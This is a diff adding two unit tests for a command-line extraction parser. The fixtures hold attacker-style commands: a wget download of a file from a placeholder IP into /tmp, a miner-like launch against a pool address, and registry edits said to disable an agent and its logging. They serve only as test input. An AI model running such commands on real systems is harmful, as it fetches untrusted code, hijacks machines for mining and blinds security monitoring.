@@ -359,4 +359,31 @@ describe('extractCmdlines', () => {
       '"C:\\Program Files\\Zipper\\zp.exe" a -r -- . E:\\out\\x',
     ]);
   });
+
+  it('reads a block a shebang marks as a shell script whatever its tag, with lines joined by shell operators and programs run by variable', () => {
+    const text = [
+      '```javascript',
+      '#!/bin/sh',
+      'ulimit -n 4096 ; export LANG=C',
+      'apk update;apk add socat',
+      'if ! type socat; then wget -q http://198.51.100.7/s -O /tmp/s ; fi',
+      './$BIN --donate-level 0 -o pool.example.test:443',
+      '```',
+    ].join('\n');
+    expect(values(text)).toEqual([
+      'ulimit -n 4096 ; export LANG=C',
+      'apk update;apk add socat',
+      'if ! type socat; then wget -q http://198.51.100.7/s -O /tmp/s ; fi',
+      './$BIN --donate-level 0 -o pool.example.test:443',
+    ]);
+  });
+
+  it('does not join a command to one after it across prose holding a lone "&"', () => {
+    const text =
+      'Script: reg add "HKLM\\Software\\Acme" /v "A" /t REG_DWORD /d "0" /f Turns off the agent. Logging & UI reg add "HKLM\\Software\\Acme\\Log" /v "B" /d "1" /f Stops logging of agent events.';
+    expect(values(text)).toEqual([
+      'reg add "HKLM\\Software\\Acme" /v "A" /t REG_DWORD /d "0" /f',
+      'reg add "HKLM\\Software\\Acme\\Log" /v "B" /d "1" /f',
+    ]);
+  });
 });
